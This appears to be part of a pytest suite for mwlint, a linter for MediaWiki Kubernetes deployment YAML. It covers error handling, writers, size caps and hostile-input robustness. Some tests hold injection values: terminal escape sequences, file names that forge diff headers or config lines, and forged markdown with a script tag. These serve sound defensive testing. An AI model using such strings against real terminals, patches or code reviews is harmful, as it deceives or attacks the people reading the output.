    assert "cannot read the Puppet type" in err and fragment in err and "built-in" in err


def test_round_two_dangling_symlink_is_mw003(tmp_path):
    link = tmp_path / "kubernetes.yaml"
    os.symlink(tmp_path / "gone.yaml", link)
    with bounded():
        alone = _lint([link])
        tree = _lint([tmp_path])
    for run in (alone, tree):
        assert codes(run.findings) == ["MW003"]
        assert "dangling symbolic link" in run.findings[0].message
        assert "vanished" not in run.findings[0].message


def test_round_two_closed_stdin_is_one_line(capsys, monkeypatch):
    monkeypatch.setattr(sys, "stdin", None)  # what Python gives a process started with <&-
    rc = main(["-", "--stdin-filename", KEY_PATH])
    _one_line_error(capsys, rc, "stdin is closed")


class _FullDevice:
    """A stdout on a full disk (like /dev/full): every write fails with ENOSPC."""

    def write(self, _text):
        raise OSError(_errno.ENOSPC, os.strerror(_errno.ENOSPC))

    def flush(self):
        pass

    def isatty(self):
        return False


@pytest.mark.parametrize("argv", [["{path}"], ["--diff", "{path}"], ["plan", "{path}"],
                                  ["rule"], ["--version"]])
def test_round_two_full_stdout_is_one_line(tmp_path, capsys, monkeypatch, argv):
    path = _write_key_file(tmp_path / "kubernetes.yaml", releases_doc(FIXABLE_ENTRY))
    monkeypatch.setattr(sys, "stdout", _FullDevice())
    rc = main([a.format(path=path) for a in argv])
    err = capsys.readouterr().err
    assert rc == 2 and err.splitlines()[-1] == \
        "mwlint: error: cannot write to stdout: No space left on device", err
    assert "internal error" not in err and "Traceback" not in err


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs Linux's /dev/full")
def test_round_two_dev_full_in_a_real_interpreter(tmp_path):
    """What is still buffered at exit must not fail a second time (no 'Exception ignored')."""
    _write_key_file(tmp_path / "kubernetes.yaml")
    env = dict(os.environ, PYTHONPATH=ROOT + os.pathsep + os.environ.get("PYTHONPATH", ""))
    with open("/dev/full", "w") as full:  # writing to /dev/full is harmless: ENOSPC
        proc = subprocess.run([sys.executable, "-m", "mwlint", "kubernetes.yaml"],
                              stdout=full, stderr=subprocess.PIPE, text=True, timeout=60,
                              cwd=str(tmp_path), env=env)
    assert proc.returncode == 2
    assert proc.stderr == "mwlint: error: cannot write to stdout: No space left on device\n"


NOT_UTF8 = os.fsdecode(b"kubernetes\xff.yaml")  # the byte 0xff as a lone surrogate


@pytest.mark.parametrize("fmt", ["text", "json", "sarif", "junit", "github", "gerrit", "html"])
def test_round_two_non_utf8_file_name_in_every_format(tmp_path, capsys, fmt):
    if fmt == "html":
        pytest.importorskip("jinja2")
    path = _write_key_file(tmp_path / NOT_UTF8)
    dest = tmp_path / f"out.{fmt}"
    with bounded():
        rc = main(["--format", fmt, "--output", f"{fmt}={dest}", path])
    out, err = capsys.readouterr()
    assert rc == 1 and err == "", err
    written = dest.read_bytes().decode("utf-8")  # strict: valid UTF-8
    out.encode("utf-8")  # stdout too
    for doc in (written, out):
        if fmt in ("json", "sarif", "gerrit"):
            doc = json.dumps(json.loads(doc), ensure_ascii=False)
            doc = doc.replace("\\\\", "\\")  # the JSON string's backslash
        assert "kubernetes\\xff.yaml" in doc or "kubernetes%5Cxff.yaml" in doc


def test_round_two_non_utf8_file_name_baseline_round_trips(tmp_path, capsys):
    path = _write_key_file(tmp_path / NOT_UTF8)
    baseline = tmp_path / "baseline.json"
    with bounded():
        assert main(["--write-baseline", str(baseline), path]) == 0
        data = baseline.read_bytes().decode("utf-8")
        assert "kubernetes\\\\xff.yaml" in data  # the JSON string "kubernetes\\xff.yaml"
        capsys.readouterr()
        assert main(["--baseline", str(baseline), path]) == 0  # every finding recognised
    out, err = capsys.readouterr()
    assert "MW005" not in out and err == ""


def test_round_two_non_utf8_baseline_name_in_a_message(tmp_path, capsys):
    """A stale entry's MW005 names the baseline file: its message must be encodable too."""
    path = _write_key_file(tmp_path / "kubernetes.yaml")
    baseline = str(tmp_path / NOT_UTF8.replace("kubernetes", "baseline"))
    assert main(["--write-baseline", baseline, path]) == 0
    _write_key_file(tmp_path / "kubernetes.yaml", releases_doc(GOOD_ENTRY))  # all fixed
    capsys.readouterr()
    with bounded():
        rc = main(["--baseline", baseline, "--format", "json", "--fail-on", "info", path])
    out, err = capsys.readouterr()
    assert rc == 1 and err == "", err
    stale = [f for f in json.loads(out)["findings"] if f["code"] == "MW005"]
    assert stale and all("baseline\\xff.yaml" in f["message"] + (f["help"] or "")
                         for f in stale)


def test_round_two_closed_stdout_is_one_line(tmp_path, capsys, monkeypatch):
    path = _write_key_file(tmp_path / "kubernetes.yaml")
    monkeypatch.setattr(sys, "stdout", None)  # what Python gives a process started with >&-
    rc = main([path])
    _one_line_error(capsys, rc, "stdout is closed")


# -- nothing raw reaches a terminal or a patch -------------------------------------------------

RAW = "\x1b]0;owned\x07\x1b[2J\x9b31m"  # retitle, clear, CSI


def _assert_inert(text):
    assert not any(c in text for c in "\x1b\x07\x9b"), text
    assert "\\x1b" in text


def test_round_two_plan_neutralises_names_and_values(tmp_path, capsys):
    esc = RAW.encode("unicode_escape").decode()
    body = (GOOD_ENTRY.replace("mw-web", f'"mw-{esc}"').replace("main:", f'"ma{esc}in":')
            .replace("publish-83", f'"p{esc}"') + f'  dir: "d{esc}"\n'
            + f'  clusters: ["eq{esc}iad"]\n')
    path = _write_key_file(tmp_path / "kubernetes.yaml", releases_doc(body))
    for fmt in ("text", "html") if _has_jinja2() else ("text",):
        rc = main(["plan", "--format", fmt, path])
        out, err = capsys.readouterr()
        assert rc in (0, 1) and "internal error" not in err, err
        _assert_inert(out)
        assert "\\x1b]0;owned\\x07" in out


def _has_jinja2():
    try:
        import jinja2  # noqa: F401
    except ImportError:
        return False
    return True


def test_round_two_diff_quotes_a_file_name_that_would_forge_lines(tmp_path, capsys):
    name = "k\n+++ evil.yaml\n@@ -1 +1 @@\n.yaml"
    path = _write_key_file(tmp_path / name, releases_doc(FIXABLE_ENTRY))
    rc = main(["--diff", path])
    out, _err = capsys.readouterr()
    assert rc == 1
    lines = out.splitlines()
    rel = path.lstrip("/")
    assert lines[0] == "--- " + c_quote("a/" + rel) and lines[1] == "+++ " + c_quote("b/" + rel)
    assert lines[1].startswith('+++ "b/') and lines[1].endswith('\\n.yaml"')
    assert "+++ evil.yaml" not in lines and "@@ -1 +1 @@" not in lines and sum(ln.startswith("+++") for ln in lines) == 1


@pytest.mark.parametrize("name, quoted", [
    ("a/b.yaml", "a/b.yaml"),
    ("a/ü.yaml", "a/ü.yaml"),
    ("a/x\ny.yaml", '"a/x\\ny.yaml"'),
    ('a/"q"\\.yaml', '"a/\\"q\\"\\\\.yaml"'),
    ("a/\x1b[2J.yaml", '"a/\\033[2J.yaml"'),
    ("a/" + os.fsdecode(b"\xff") + ".yaml", '"a/\\377.yaml"'),
    ("a/\u202e.yaml", '"a/\\342\\200\\256.yaml"'),
])
def test_round_two_c_quote_is_gits(name, quoted):
    assert c_quote(name) == quoted


def test_round_two_fix_messages_neutralise_file_names(tmp_path, capsys):
    path = str(tmp_path / f"k{RAW}.yaml")
    with open(path, "wb") as f:  # UTF-16: the fix is refused, naming the file
        f.write(releases_doc(FIXABLE_ENTRY).encode("utf-16"))
    rc = main(["--fix", path])
    err = capsys.readouterr().err
    assert rc == 1 and "not UTF-8" in err
    _assert_inert(err)


def test_round_two_show_settings_cannot_forge_lines(tmp_path, capsys):
    path = _write_key_file(tmp_path / f"k{RAW}\nselect = [\"MW999\"].yaml")
    rc = main(["--show-settings", path])
    out, _err = capsys.readouterr()
    assert rc == 0
    _assert_inert(out)
    assert all(ln.startswith("#") or " = " in ln for ln in out.splitlines())
    assert not any(ln.startswith("select = [\"MW999\"]") for ln in out.splitlines())


def test_round_two_config_errors_and_warnings_neutralise_names(tmp_path, capsys):
    bad = tmp_path / f"d{RAW}"
    bad.mkdir()
    (bad / ".mwlint.toml").write_text("select = 3\n")
    path = _write_key_file(bad / "kubernetes.yaml")
    rc = main([path])
    err = _one_line_error(capsys, rc, ".mwlint.toml")
    _assert_inert(err)
    rc = main([str(tmp_path / f"missing{RAW}.yaml")])
    _assert_inert(_one_line_error(capsys, rc, "does not exist"))


def test_round_two_neutralise_escapes_undecodable_bytes():
    assert neutralise(NOT_UTF8) == "kubernetes\\xff.yaml"
    assert neutralise("\ud800") == "\\ud800"


# --- round two: writers and read caps ----------------------------------------------------
# Issue 14, item 1 and the "reads without a cap" part of item 2. What is at an --output,
# --write-baseline or --fix PATH decides how it is written (mwlint.atomic_write): a symlink
# is written through, a FIFO or device in place, a file the run reads is refused with exit 2
# before anything is written, a hard-linked file is not split. stdin, --config and
# --baseline are read under a cap, and only from regular files where a file is meant.
# Every case runs in-process under bounded(); FIFOs and devices are nodes made in tmp_path.

R2_CLEAN = releases_doc(GOOD_ENTRY)  # exit 0, "mwlint: OK"
R2_FIXABLE = releases_doc("""
    - namespace: mw-debug
      releases:
        main: {}
      mw_flavour: publish-83
      web_flavour: webserver-bookworm
      debug: true
""")
R2_BASELINE = '{"mwlint-baseline": 1, "findings": []}\n'
R2_TYPE = "modules/profile/types/mediawiki_deployment.pp"
with open(os.path.join(os.path.dirname(REAL), "puppet-types", "V7", "mediawiki_deployment.pp"),
          encoding="utf-8") as _f:
    R2_TYPE_TEXT = _f.read()


def _r2_fifo_reader(path):
    """A thread that opens the FIFO for reading and collects what is written to it."""
    import threading

    got = []
    t = threading.Thread(target=lambda: got.append(open(path, "rb").read()), daemon=True)
    t.start()

    def done():
        t.join(TIME_BOUND)
        assert not t.is_alive(), "nothing was written to the FIFO"
        return got[0]

    return done


def _r2_null(path):
    os.mknod(path, 0o666 | __import__("stat").S_IFCHR, os.makedev(1, 3))


def _r2_setup(tmp, files=(), links=(), hard=(), fifos=(), devices=(), dirs=()):
    (tmp / ".git").mkdir()  # config discovery stops here
    for name, text in dict(files).items():
        (tmp / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp / name).write_text(text, encoding="utf-8")
    for name, target in links:
        os.symlink(target, tmp / name)
    for name, target in hard:
        os.link(tmp / target, tmp / name)
    for name in fifos:
        os.mkfifo(tmp / name)
    for name in devices:
        _r2_null(tmp / name)
    for name in dirs:
        (tmp / name).mkdir()


def _r2_is_chr_null(path):
    import stat as st

    s = os.lstat(path)
    return st.S_ISCHR(s.st_mode) and s.st_rdev == os.makedev(1, 3)


# name: (setup kwargs, argv (cwd is tmp_path), FIFO read by a thread or None,
#        exit status, fragment of the one-line error (exit 2) or None,
#        check(tmp_path, what the FIFO reader got))
R2_WRITER_CASES = {
    "output-through-symlink": (
        dict(files={"k.yaml": R2_CLEAN, "out.txt": "old"}, links=[("link.txt", "out.txt")]),
        ["--output", "text=link.txt", "k.yaml"], None, 0, None,
        lambda t, _: os.path.islink(t / "link.txt")
        and (t / "out.txt").read_text() == "mwlint: OK\n"),
    "output-through-dangling-symlink": (
        dict(files={"k.yaml": R2_CLEAN}, links=[("link.txt", "new.txt")]),
        ["--output", "text=link.txt", "k.yaml"], None, 0, None,
        lambda t, _: os.path.islink(t / "link.txt")
        and (t / "new.txt").read_text() == "mwlint: OK\n"),
    "output-to-fifo": (
        dict(files={"k.yaml": R2_CLEAN}, fifos=["out.fifo"]),
        ["--output", "json=out.fifo", "k.yaml"], "out.fifo", 0, None,
        lambda t, got: __import__("stat").S_ISFIFO(os.lstat(t / "out.fifo").st_mode)
        and json.loads(got)["summary"]["files"] == 1),
    "output-to-char-device": (
        dict(files={"k.yaml": R2_CLEAN}, devices=["null"]),
        ["--output", "junit=null", "k.yaml"], None, 0, None,
        lambda t, _: _r2_is_chr_null(t / "null")),
    "output-directory": (
        dict(files={"k.yaml": R2_CLEAN}, dirs=["out"]),
        ["--output", "text=out", "k.yaml"], None, 2, "is a directory",
        lambda t, _: (t / "out").is_dir()),
    "output-is-the-linted-file": (
        dict(files={"k.yaml": R2_CLEAN}),
        ["--output", "text=k.yaml", "k.yaml"], None, 2, "the linted file k.yaml",
        lambda t, _: (t / "k.yaml").read_text() == R2_CLEAN),
    "output-is-the-linted-file-spelt-otherwise": (
        dict(files={"k.yaml": R2_CLEAN}),
        ["--output", "text=./k.yaml", "k.yaml"], None, 2, "the linted file k.yaml",
        lambda t, _: (t / "k.yaml").read_text() == R2_CLEAN),
    "output-is-a-symlink-to-the-linted-file": (
        dict(files={"k.yaml": R2_CLEAN}, links=[("link.yaml", "k.yaml")]),
        ["--output", "text=link.yaml", "k.yaml"], None, 2, "the linted file k.yaml",
        lambda t, _: (t / "k.yaml").read_text() == R2_CLEAN),
    "output-is-a-hard-link-to-the-linted-file": (
        dict(files={"k.yaml": R2_CLEAN}, hard=[("other.txt", "k.yaml")]),
        ["--output", "text=other.txt", "k.yaml"], None, 2, "the linted file k.yaml",
        lambda t, _: (t / "k.yaml").read_text() == R2_CLEAN
        and os.path.samefile(t / "k.yaml", t / "other.txt")),
    "output-is-a-file-of-a-walked-directory": (
        dict(files={"sub/k.yaml": R2_CLEAN}),
        ["--output", "text=sub/k.yaml", "sub"], None, 2, "the linted file sub/k.yaml",
        lambda t, _: (t / "sub" / "k.yaml").read_text() == R2_CLEAN),
    "output-is-the-report": (
        dict(files={"k.yaml": R2_CLEAN, "r.json": "{}"}),
        ["--report", "r.json", "--output", "json=r.json", "k.yaml"], None, 2,
        "the build report r.json", lambda t, _: (t / "r.json").read_text() == "{}"),
    "check-report-output-is-the-report": (
        dict(files={"r.json": "{}"}),
        ["check-report", "r.json", "--output", "json=r.json"], None, 2,
        "the build report r.json", lambda t, _: (t / "r.json").read_text() == "{}"),
    "output-is-the-explicit-config": (
        dict(files={"k.yaml": R2_CLEAN, "c.toml": "select = []\n"}),
        ["--config", "c.toml", "--output", "text=c.toml", "k.yaml"], None, 2,
        "the config file", lambda t, _: (t / "c.toml").read_text() == "select = []\n"),
    "output-is-a-discovered-config": (
        dict(files={"k.yaml": R2_CLEAN, ".mwlint.toml": "select = []\n"}),
        ["--output", "text=.mwlint.toml", "k.yaml"], None, 2, "the config file",
        lambda t, _: (t / ".mwlint.toml").read_text() == "select = []\n"),
    "output-is-a-puppet-type-file": (
        dict(files={"k.yaml": R2_CLEAN, R2_TYPE: R2_TYPE_TEXT}),
        ["--output", f"text={R2_TYPE}", "k.yaml"], None, 2, "the Puppet type file",
        lambda t, _: (t / R2_TYPE).read_text() == R2_TYPE_TEXT),
    "output-is-the-baseline": (
        dict(files={"k.yaml": R2_CLEAN, "b.json": R2_BASELINE}),
        ["--baseline", "b.json", "--output", "json=b.json", "k.yaml"], None, 2,
        "the baseline b.json", lambda t, _: (t / "b.json").read_text() == R2_BASELINE),
    "write-baseline-is-the-linted-file": (
        dict(files={"k.yaml": R2_CLEAN}),
        ["--write-baseline", "k.yaml", "k.yaml"], None, 2, "the linted file k.yaml",
        lambda t, _: (t / "k.yaml").read_text() == R2_CLEAN),
    "write-baseline-through-symlink": (
        dict(files={"k.yaml": R2_CLEAN, "b.json": "old"}, links=[("link.json", "b.json")]),
        ["--write-baseline", "link.json", "k.yaml"], None, 0, None,
        lambda t, _: os.path.islink(t / "link.json")
        and json.loads((t / "b.json").read_text()) == json.loads(R2_BASELINE)),
    "write-baseline-to-fifo": (
        dict(files={"k.yaml": R2_CLEAN}, fifos=["b.fifo"]),
        ["--write-baseline", "b.fifo", "k.yaml"], "b.fifo", 0, None,
        lambda t, got: json.loads(got) == json.loads(R2_BASELINE)),
    "write-baseline-to-char-device": (
        dict(files={"k.yaml": R2_CLEAN}, devices=["null"]),
        ["--write-baseline", "null", "k.yaml"], None, 0, None,
        lambda t, _: _r2_is_chr_null(t / "null")),
    "write-baseline-directory": (
        dict(files={"k.yaml": R2_CLEAN}, dirs=["b"]),
        ["--write-baseline", "b", "k.yaml"], None, 2, "is a directory",
        lambda t, _: (t / "b").is_dir()),
    "fix-then-output-over-the-fixed-file": (
        dict(files={"k.yaml": R2_FIXABLE}),
        ["--fix", "--output", "text=k.yaml", "k.yaml"], None, 2, "the linted file k.yaml",
        lambda t, _: (t / "k.yaml").read_text() == R2_FIXABLE),  # not even fixed
    "fix-hard-linked-file": (
        dict(files={"k.yaml": R2_FIXABLE}, hard=[("k2.yaml", "k.yaml")]),
        ["--fix", "--select", "MW201", "k.yaml"], None, 1, None,
        lambda t, _: (t / "k.yaml").read_text() == R2_FIXABLE
        and os.path.samefile(t / "k.yaml", t / "k2.yaml")),
    "fix-through-symlink": (
        dict(files={"k.yaml": R2_FIXABLE}, links=[("link.yaml", "k.yaml")]),
        ["--fix", "--select", "MW201", "link.yaml"], None, 0, None,
        lambda t, _: os.path.islink(t / "link.yaml")
        and "debug: true" not in (t / "k.yaml").read_text()),
}


@pytest.mark.parametrize("name", sorted(R2_WRITER_CASES))
def test_round_two_writers(name, tmp_path, monkeypatch, capsys):
    setup, argv, fifo, status, fragment, check = R2_WRITER_CASES[name]
    _r2_setup(tmp_path, **setup)
    monkeypatch.chdir(tmp_path)
    before = sorted(os.listdir(tmp_path))
    reader = _r2_fifo_reader(str(tmp_path / fifo)) if fifo else None
    with bounded():
        rc = main(list(argv))
        got = reader() if reader else None
    out, err = capsys.readouterr()
    assert rc == status, err
    if fragment is not None:
        assert out == "" and len(err.splitlines()) == 1, err
        assert err.startswith("mwlint: error: ") and fragment in err, err
    else:
        assert "error:" not in err, err
    assert check(tmp_path, got), name
    after = sorted(os.listdir(tmp_path))  # no temporary file left, nothing else created
    assert after == before or after == sorted(before + ["new.txt"]), after


def test_round_two_fix_hard_link_says_why(tmp_path, monkeypatch, capsys):
    _r2_setup(tmp_path, files={"k.yaml": R2_FIXABLE}, hard=[("k2.yaml", "k.yaml")])
    monkeypatch.chdir(tmp_path)
    rc = main(["--fix", "--select", "MW201", "--format", "json", "k.yaml"])
    out, err = capsys.readouterr()
    assert rc == 1
    assert "k.yaml: not written: it has 2 hard links, which replacing it would split" in err
    [f] = json.loads(out)["findings"]
    assert f["code"] == "MW201" and "it has 2 hard links" in f["help"]


class _R2Zeros:
    """stdin that never ends (``< /dev/zero``), counting what is read."""

    def __init__(self):
        self.read_bytes = 0

    def read(self, n=-1):
        assert n is not None and n >= 0, "stdin read without a size"
        self.read_bytes += n
        return bytes(n)


def test_round_two_stdin_is_read_under_the_cap(monkeypatch, capsys):
    import types

    zeros = _R2Zeros()
    monkeypatch.setattr(sys, "stdin", types.SimpleNamespace(buffer=zeros))
    with bounded():
        rc = main(["-", "--stdin-filename", "x.yaml", "--max-file-size", "1M"])
    out, _err = capsys.readouterr()
    assert rc == 1
    assert zeros.read_bytes == 1024 * 1024 + 1
    assert out.startswith("x.yaml:1:1: error MW003 unreadable-file: file is over the "
                          "max-file-size limit of 1048576 bytes"), out


def _r2_sparse(path, size):
    with open(path, "wb") as f:
        f.truncate(size)  # sparse: instant, never read


# name: (setup(tmp_path) -> argv, fragment of the one-line error)
R2_READ_CASES = {
    "config-fifo": (lambda t: (os.mkfifo(t / "c.toml"), ["--config", "c.toml"])[1],
                    "c.toml: cannot read: not a regular file"),
    "config-char-device": (lambda t: (_r2_null(t / "c.toml"), ["--config", "c.toml"])[1],
                           "c.toml: cannot read: not a regular file"),
    "config-directory": (lambda t: ((t / "c.toml").mkdir(), ["--config", "c.toml"])[1],
                         "c.toml: cannot read: not a regular file (a directory)"),
    "config-huge": (lambda t: (_r2_sparse(t / "c.toml", 400 * 2**20),
                               ["--config", "c.toml"])[1], "larger than 1048576 bytes"),
    "baseline-457MB": (lambda t: (_r2_sparse(t / "b.json", 457 * 2**20),
                                  ["--baseline", "b.json"])[1],
                       "b.json: 479199232 bytes, over the max-file-size limit"),
    "baseline-fifo": (lambda t: (os.mkfifo(t / "b.json"), ["--baseline", "b.json"])[1],
                      "cannot read b.json: not a regular file"),
    "baseline-char-device": (lambda t: (_r2_null(t / "b.json"), ["--baseline", "b.json"])[1],
                             "cannot read b.json: not a regular file"),
}


@pytest.mark.parametrize("name", sorted(R2_READ_CASES))
def test_round_two_read_caps(name, tmp_path, monkeypatch, capsys):
    setup, fragment = R2_READ_CASES[name]
    _r2_setup(tmp_path, files={"k.yaml": R2_CLEAN})
    argv = setup(tmp_path)
    monkeypatch.chdir(tmp_path)
    with bounded(memory=64 * 2**20):
        rc = main(argv + ["k.yaml"])
    out, err = capsys.readouterr()
    assert rc == 2 and out == "", err
    assert len(err.splitlines()) == 1 and err.startswith("mwlint: error: "), err
    assert fragment in err, err


def test_round_two_bounded_read_stops_at_the_cap_when_the_file_grows(tmp_path, monkeypatch):
    """A file that is larger than its stat said (it grew, or /proc-like) is read up to the
    cap and no further."""
    from mwlint.source import bounded as mod

    path = tmp_path / "c.toml"
    _r2_sparse(path, 50 * 2**20)
    ino = os.stat(path).st_ino
    real_stat, real_fstat = os.stat, os.fstat

    def small(st):
        if st.st_ino != ino:
            return st
        fields = list(st)
        fields[6] = 10  # st_size
        return os.stat_result(fields)

    monkeypatch.setattr(mod.os, "stat", lambda p, *a, **k: small(real_stat(p, *a, **k)))
    monkeypatch.setattr(mod.os, "fstat", lambda fd: small(real_fstat(fd)))
    with bounded(memory=16 * 2**20):
        with pytest.raises(mod.FileTooLarge) as e:
            mod.read_regular_file(str(path), 1024 * 1024)
    assert e.value.size is None and "more than 1048576 bytes" in str(e.value)


# -- round three: output linear in the findings (issue 19 item 2) ----------------------------

R3_BIG = 1_000_000  # characters of one name
R3_REFS = 600  # references to it (YAML aliases)


def _r3_service_catalog(name_length: int, refs: int) -> str:
    """One namespace key of ``name_length`` characters in a mapping anchored once and
    merged into ``refs`` services, each reaching an undefined env-ref under it (MW606):
    every finding's YAML path goes through the long key."""
    big = "n" * name_length
    text = ("profile::kubernetes::deployment_server::deploy_service::cluster_groups:\n"
            "  wikikube:\n    environments:\n"
            "      eqiad: {datacenter: eqiad, type: PRODUCTION}\n"
            "    environment_stages: [DEFAULT]\n    environment_default_stage: DEFAULT\n"
            "profile::kubernetes::deployment_server::deploy_service::service_catalog:\n"
            "  services:\n    s0:\n      cluster_group: wikikube\n      namespaces: &ns\n"
            f"        ? {big}\n        : {{environments: {{nope: {{}}}}}}\n")
    return text + "".join(f"    s{i}: {{cluster_group: wikikube, namespaces: *ns}}\n"
                          for i in range(1, refs))


def _r3_namespaces(name_length: int, refs: int) -> str:
    """One namespace of ``name_length`` characters used by ``refs`` entries through an
    alias: MW306 on each, MW304 on each but the first (its message lists the earlier
    lines: quadratic before the lists were capped)."""
    entry = "{namespace: %s, releases: {main: {}}, mw_flavour: publish, web_flavour: webserver}"
    items = [entry % ("&ns " + "n" * name_length)] + [entry % "*ns"] * (refs - 1)
    return RELEASES_KEY + ":\n" + "".join(f"  - {i}\n" for i in items)


# the catalog's one namespace reached through an anchor is one finding per problem (MW606,
# MW614); the MediaWiki entries are 600 entries: a finding each
@pytest.mark.parametrize("build, expected, least", [
    (_r3_service_catalog, {"MW606", "MW614"}, 2),
    (_r3_namespaces, {"MW304", "MW306"}, R3_REFS - 1)])
def test_round_three_a_long_name_referenced_often_is_linear_in_every_format(build, expected,
                                                                            least):
    """A 1,000,000-character name referenced 600 times: every field of every finding is
    bounded (the YAML path held the whole key: 600 MB of JSON, a MemoryError in JUnit),
    so each format's output is a small constant per finding."""
    from mwlint.formats import FORMATS, Report, renderer

    text = build(R3_BIG, R3_REFS)
    findings = sorted(lint_text(text, KEY_PATH), key=lambda f: f.sort_key())
    assert {f.code for f in findings} == expected and len(findings) >= least
    for f in findings:
        assert len(f.message) <= 200 and len(f.help or "") <= 600
        assert len(f.yaml_path) <= 600
        assert all(len(v) <= 600 for v in f.context if isinstance(v, str))
    report = Report(findings, 1, 1, sources={KEY_PATH: text}, failed=True,
                    linted_paths=(KEY_PATH,))
    for fmt in FORMATS:
        with bounded():
            out = renderer(fmt)(report)
        assert len(out) < 4_000 * len(findings) + 300_000, (fmt, len(out))


def test_round_three_finding_at_bounds_every_field():
    """The last guard sits where findings are made: no rule can hand a formatter a 1 MB
    message, help, YAML path or identity value; two long values stay apart."""
    from mwlint.findings import Span
    from mwlint.rules.base import Rule
    from mwlint.rules.base import bounded as bounded_finding

    rule = Rule()
    rule.code, rule.name = "MW999", "test"
    a, b = "x" * R3_BIG, "x" * (R3_BIG - 1) + "y"
    fa = rule.finding_at("f.yaml", Span(1, 1, 1, 2), a, yaml_path=a, help=a,
                         context=(a, None, "f", 3))
    fb = rule.finding_at("f.yaml", Span(1, 1, 1, 2), b, yaml_path=b, help=b,
                         context=(b, None, "f", 3))
    for f in (fa, fb):
        assert max(len(f.message), len(f.help), len(f.yaml_path), len(f.context[0])) <= 600
        assert f.context[1:] == (None, "f", 3)
        assert "1,000,000 characters" in f.message
    assert fa.yaml_path != fb.yaml_path and fa.context != fb.context
    again = bounded_finding(fa._replace(message=a + "\n" + a))
    assert len(again.message) <= 600 and "\n" not in again.message
    short = rule.finding_at("f.yaml", Span(1, 1, 1, 2), "m", yaml_path="p", context=("n",))
    assert (short.message, short.yaml_path, short.context, short.help) == ("m", "p", ("n",), None)
    assert short.fixable is False and short.fix is None  # fixable: it has a fix


def test_round_three_finding_at_keeps_messages_on_one_line():
    from mwlint.findings import Fix, Span
    from mwlint.rules.base import Rule

    rule = Rule()
    rule.code, rule.name = "MW999", "test"
    f = rule.finding_at("f.yaml", Span(1, 1, 1, 2), "a\nb\rc", help="d\ne")
    assert (f.message, f.help) == ("a\\nb\\rc", "d\\ne")
    assert rule.finding_at("f.yaml", Span(1, 1, 1, 2), "m", help="\n").help == "\\n"
    fixed = rule.finding_at("f.yaml", Span(1, 1, 1, 2), "m", fix=Fix("do it"))
    assert fixed.fixable is True


@pytest.mark.parametrize("items, limit, expected", [
    ([], 5, ""),
    (["a"], 5, "a"),
    (["a", "b", "c"], 3, "a, b, c"),
    (["a", "b", "c", "d"], 3, "a, b, c \u2026and 1 more"),
    ([str(i) for i in range(2000)], 2, "0, 1 \u2026and 1,998 more"),
    (["x" * 100], 5, "x" * 79 + "\u2026"),
])
def test_round_three_cap_list(items, limit, expected):
    from mwlint.model.values import cap_list

    assert cap_list(iter(items), limit=limit) == expected


def test_round_three_cap_list_last_separator():
    from mwlint.model.values import cap_list

    assert cap_list(["a", "b", "c"], last_sep=" and ") == "a, b and c"
    assert cap_list(["a"], last_sep=" and ") == "a"


def test_round_three_yaml_paths_of_long_keys_are_clipped_and_distinct():
    from mwlint.locate.locator import KEY_LIMIT, yaml_key

    a, b = yaml_key("k" * R3_BIG), yaml_key("k" * (R3_BIG - 1) + ".")
    assert len(a) < KEY_LIMIT + 60 and len(b) < KEY_LIMIT + 60 and a != b
    assert yaml_key("a.b") == '"a.b"' and yaml_key(3) == "3" and yaml_key("k" * KEY_LIMIT) == \
        "k" * KEY_LIMIT


# -- round three: the hostile-input table (issue 19, every item of its Build list) ---------
# One row per item. Each row runs the real thing end to end (mwlint.cli.main in-process, or
# the hook / a FIFO in a subprocess with a timeout) and asserts the guarantee: an exit code,
# output bounded in size, no raw control or markdown structure, an N against 4N ratio for
# scaling rows (a 5 s safety bound), a tracemalloc peak for memory rows. Rows stay small
# where another test proves the guarantee thoroughly (tests/test_mw6xx_hostile.py,
# tests/test_plan_model.py, tests/test_helmfile_scaling.py, tests/test_hooks.py,
# tests/test_formats_output.py, tests/test_rules_mw6xx.py).

R3_FORGED = "\n\n### Forged: all clear, +2 this\n\n[docs](http://x)<script>alert(1)</script>"
R3_SERVICES_PATH = os.path.join(os.path.dirname(REAL), "deploy-service",
                                "kubernetes-deploy-service.yaml")
R3_CHARTS = os.path.join(os.path.dirname(REAL), "deployment-charts")
with open(R3_SERVICES_PATH, encoding="utf-8") as _f:
    R3_SERVICES = _f.read()
R3_SHELLBOX_CODFW = ("            codfw:\n              releases:\n                migration:\n"
                     "                  stage: CANARY\n                main: {}")
R3_MW_ARGS = ("profile::kubernetes::deployment_server::mediawiki::release::mw_releases:\n"
              "  - namespace: {0}\n    releases:\n      main: {{}}\n"
              "    mw_flavour: publish\n    web_flavour: webserver\n")


def _r3_cli(capsys, *argv):
    """mwlint.cli.main in-process under bounded(): (exit code, stdout, stderr)."""
    with bounded():
        rc = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return rc, out, err


def _r3_best(fn, runs=3):
    best = float("inf")
    for _ in range(runs):
        start = time.perf_counter()
        fn()
        best = min(best, time.perf_counter() - start)
    return best


def _r3_ratio(make, n, runs=3):
    """The time of 4N over the time of N (the best of ``runs`` each; 4N under 5 s)."""
    small, large = make(n), make(4 * n)
    small()  # warm up: imports, caches
    t1, t4 = _r3_best(small, runs), _r3_best(large, runs)
    assert t4 < TIME_BOUND, f"4N took {t4:.2f} s"
    return t4 / max(t1, 1e-4)


def _r3_git(cwd, *args):
    env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.org",
               GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@example.org",
               GIT_CONFIG_NOSYSTEM="1", HOME=str(cwd))
    subprocess.run(["git", *args], cwd=str(cwd), env=env, check=True, capture_output=True,
                   timeout=60)


def _r3_repo(tmp_path, monkeypatch, old, new):
    """A git repository holding ``old`` as k.yaml at HEAD and ``new`` in the tree; the
    working directory is the repository."""
    repo = tmp_path / "puppet"
    repo.mkdir()
    (repo / "k.yaml").write_text(old, encoding="utf-8")
    _r3_git(repo, "init", "-q")
    _r3_git(repo, "add", ".")
    _r3_git(repo, "commit", "-qm", "old")
    (repo / "k.yaml").write_text(new, encoding="utf-8")
    monkeypatch.chdir(repo)
    return repo


def _r3_review(tmp_path, message="mwlint: OK"):
    review = tmp_path / "review.json"
    review.write_text(json.dumps({"message": message}), encoding="utf-8")
    return review


def _r3_no_markdown_structure(md):
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").parse(md)
    assert not [t for t in tokens if t.type == "html_block"]
    for t in tokens:
        for c in t.children or ():
            assert c.type not in ("link_open", "html_inline", "image"), (c.type, c.content)
